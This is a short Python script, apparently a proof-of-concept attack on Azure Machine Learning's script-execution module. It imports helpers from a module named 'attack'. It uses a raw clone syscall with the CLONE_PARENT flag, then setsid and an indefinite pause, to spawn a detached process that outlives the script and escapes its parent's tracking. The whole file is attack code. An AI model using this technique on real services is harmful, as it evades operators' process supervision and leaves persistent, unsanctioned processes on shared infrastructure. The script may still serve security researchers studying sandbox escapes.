"""Starts a process that is a child of whoever started the script, not of the script."""

import os
import signal

from attack import attack, call, call_me_left


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    pid = call("clone", 0x8000 | 17, 0, 0, 0, 0)
    if pid == 0:
        call_me_left()
        os.setsid()
        signal.pause()
        os._exit(0)
    return ""
